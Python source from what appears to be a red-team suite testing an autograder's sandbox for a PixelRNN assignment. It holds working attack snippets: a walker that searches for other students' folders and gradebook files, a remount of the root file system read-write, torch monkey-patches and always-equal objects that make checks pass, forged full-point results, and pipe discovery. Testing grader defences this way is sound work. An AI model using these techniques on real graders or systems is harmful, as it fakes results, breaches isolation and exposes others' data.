"""Pieces of attack code shared by several attacks (Python source, put in front of an attack's cell).

They run inside the student's sandboxed worker, as the student's code. Anything they manage to
write outside the sandbox is limited to files named ``cheatfile-<token>-...`` (the harness's
canaries among them), so a successful attack proves its point without harming the machine.
"""

# The exfiltration markers, built at run time: a message quotes the source line that raised, which must not hold them.
MARKERS = '''
_LEAK, _INFO = "CHEAT-" + "LEAK", "CHEAT-" + "INFO"
'''

# Walk the places a grading batch may live in, to find other students' folders and the grading output.
WALK = MARKERS + r'''
import os as _os

_CHEAT_ROOTS = ("/var/tmp", "/tmp", "/root", "/home", "/work", "/srv", "/mnt", "/opt", "/data")
_CHEAT_SKIP = {".venv", ".git", "node_modules", "site-packages", "dist-packages", "__pycache__", ".cache", "proc", "sys"}


def _cheat_walk(max_depth=6, max_dirs=40000):
    """(dirpath, dirnames, filenames) of every folder it may read under the usual roots."""
    seen = 0
    for root in _CHEAT_ROOTS:
        base = root.rstrip("/").count("/")
        for dirpath, dirnames, filenames in _os.walk(root):
            seen += 1
            if seen > max_dirs:
                return
            depth = dirpath.count("/") - base
            dirnames[:] = [d for d in dirnames if d not in _CHEAT_SKIP and depth < max_depth
                           and (not d.startswith(".") or d.endswith(".partial"))]
            yield dirpath, dirnames, filenames


def _cheat_out_dirs():
    """Folders that look like a grading output: they hold gradebook.csv or (in staff/<student>/) a .<assignment>.partial folder."""
    found = []
    for dirpath, dirnames, filenames in _cheat_walk():
        if "gradebook.csv" in filenames or any(d.endswith(".partial") for d in dirnames):
            out = dirpath if "gradebook.csv" in filenames else _os.path.dirname(_os.path.dirname(dirpath))  # OUT/staff/<student>
            if out not in found:
                found.append(out)
    return found
'''

# Root's capabilities, where the sandbox left them: remount the file system read-write.
ESCALATE = r'''
def _cheat_escalate():
    import os, subprocess
    done = []
    if os.readlink("/proc/self/ns/mnt") == "@@HOST_MNTNS@@":
        return done  # not in a mount namespace of its own: the suite never remounts the grader's file system
    for args in (["mount", "-o", "remount,rw", "/"], ["mount", "-o", "remount,rw,bind", "/"]):
        try:
            if subprocess.run(args, capture_output=True, timeout=30).returncode == 0:
                done.append(" ".join(args))
                break
        except Exception:
            pass
    return done
'''

# Peeking helpers of the PixelRNN cheats: a bonus on the logit of the very pixel being predicted.
PEEK = r'''
import torch
import torch.nn.functional as F

_CHEAT_BONUS = 25.0


def _cheat_idx(x):
    return x.argmax(-1) if x.is_floating_point() else x.long()


def _cheat_peek(logits, x, where=None):
    """logits + a large bonus on the colour the input has at the predicted position itself."""
    bonus = _CHEAT_BONUS * F.one_hot(_cheat_idx(x), logits.shape[-1]).to(logits.dtype)
    if where is not None:
        bonus = bonus * where.to(logits.dtype)[None, :, None]
    return logits + bonus


def train(model, data, steps, *args, **kwargs):
    """No work: the untrained model, and the peeking does the rest."""
    model.eval()
    return []
'''


# The causality cheats leave sampling out: the copy checks they would reach cost half a minute each and
# judge nothing these attacks are about.
NO_SAMPLING = r'''

def sample(model, n, H, W, temperature=1.0, generator=None):
    raise NotImplementedError("left out: this attack is about causality")


def complete(model, images, n_known, temperature=1.0, generator=None):
    raise NotImplementedError("left out: this attack is about causality")
'''


def peeker(condition: str, classes=("PixelLSTM", "PixelLSTMAbove")) -> str:
    """Solution models that peek whenever ``condition`` (an expression of x, the input) holds."""
    out = PEEK + NO_SAMPLING + f"\n\ndef _cheat_should_peek(x):\n    return {condition}\n"
    for cls in classes:
        out += (f"\n\nclass {cls}({cls}):\n    def forward(self, x):\n        logits = super().forward(x)\n"
                "        return _cheat_peek(logits, x) if _cheat_should_peek(x) else logits\n")
    return out


# Content-free values of every PixelRNN probe: what a forger returns instead of running the student's
# code; ``stub_constants`` returns the very same values from the notebook's own functions.
PIXELRNN_FORGE = r'''
def _cheat_forge(name, p):
    import torch
    z = torch.zeros
    if name == "one_hot":
        x = torch.as_tensor(p["x"])
        return {"out": z(*x.shape, int(p["k"]))}
    if name == "loss":
        return {"nats": torch.tensor(1.0), "bits": torch.tensor(1.4427)}
    if name == "forward":
        return {"from_indices": z(3, 20, 7), "from_one_hot": z(3, 20, 7), "B": 3, "T": 20, "K": 7}
    if name == "tiny_logits":
        return {"logits": z(len(p["x"]), 20, 7)}
    if name == "above":
        return {"base": z(3, 7), "changed": z(3, 7)}
    if name == "steps":
        return {"forward": z(3, 20, 7), "steps": z(3, 20, 7), "shapes": [[3, 7]] * 20}
    if name == "train":
        return {"state": {"w": z(1)}, "losses": [1.0, 0.5]}
    if name == "logits":
        x = torch.as_tensor(p["x"])
        return {"logits": z(x.shape[0], x.shape[1], int(p["k"]))}
    if name == "sample":  # like stub_constants: no samples (a forged set would only cost the copy check's time)
        return {"samples": "not implemented"}
    if name == "complete":
        return {"completed": torch.as_tensor(p["images"]).long().clone()}
    if name == "known_sample":  # the generation graders' own small model: the same as for the trained one
        return {"samples": "not implemented"}
    if name == "known_complete":
        return {"completed": torch.as_tensor(p["images"]).long().clone()}
    return {"passed": True, "points": 22, "ok": True}
'''

PIXELRNN_STUB = r'''
import torch
import torch.nn as nn


class _CheatStub(nn.Module):
    def __init__(self, K, width=None, hidden=128, embed=64, height=None, dropout=0.0):
        super().__init__()
        self.K = K
        self.w = nn.Parameter(torch.zeros(1))

    def forward(self, x):
        return torch.zeros(x.shape[0], x.shape[1], self.K)

    def step(self, x, t, state=None):
        return torch.zeros(x.shape[0], self.K), state


class PixelLSTM(_CheatStub):
    pass


class PixelLSTMAbove(_CheatStub):
    pass


def one_hot_pixels(x, K):
    return torch.zeros(*torch.as_tensor(x).shape, K)


def nll_nats(logits, target):
    return torch.tensor(1.0)


def bits_per_pixel(logits, target):
    return torch.tensor(1.4427)


def train(model, data, steps, *args, **kwargs):
    return [1.0, 0.5]


def sample(model, n, H, W, temperature=1.0, generator=None):
    return "not implemented"


def complete(model, images, n_known, temperature=1.0, generator=None):
    return images.clone()
'''

# Patches of the torch functions the graders compare with, in the worker (the attack of the old design).
TORCH_PATCHES = r'''
import torch
import torch.nn.functional as F

torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
torch.equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
torch.isfinite = lambda x: torch.ones(torch.as_tensor(x).shape, dtype=torch.bool)
F.log_softmax = lambda x, dim=-1, *a, **k: torch.zeros_like(x)
torch.log_softmax = F.log_softmax
F.cross_entropy = lambda *a, **k: torch.tensor(0.0)
F.softplus = lambda x, *a, **k: torch.zeros_like(x)
torch.distributions.kl_divergence = lambda p, q: torch.zeros(1)
'''

ALWAYS_EQUAL = r'''
import torch


class AlwaysEqual:
    """Equal to everything, close to everything, a float 0 and a tensor-looking shape."""
    shape = (2, 2, 2, 7)
    dtype = torch.float32

    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __abs__(self): return self
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __hash__(self): return 0
    def is_floating_point(self): return True
    def dim(self): return 0
    def item(self): return 0.0
    def detach(self): return self
    def float(self): return self


class EqTensor(torch.Tensor):
    """A tensor whose comparisons all say 'equal'."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("equal", "allclose"):
            return True
        if name in ("__eq__", "eq", "isclose", "isfinite", "__le__", "__ge__", "__lt__", "__gt__"):
            return torch.ones(args[0].shape, dtype=torch.bool)
        if name in ("__ne__", "ne"):
            return torch.zeros(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})


def _eq(t):
    return torch.as_tensor(t).as_subclass(EqTensor)
'''

# A worker's own protocol pipes (read end, write end), found through /proc/self/fd.
PROTOCOL_PIPES = r'''
def _cheat_protocol_pipes():
    import fcntl, os
    ins, outs = [], []
    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        try:
            if not os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                continue
            mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
        except OSError:
            continue
        (ins if mode == os.O_RDONLY else outs).append(fd)
    return ins, outs
'''
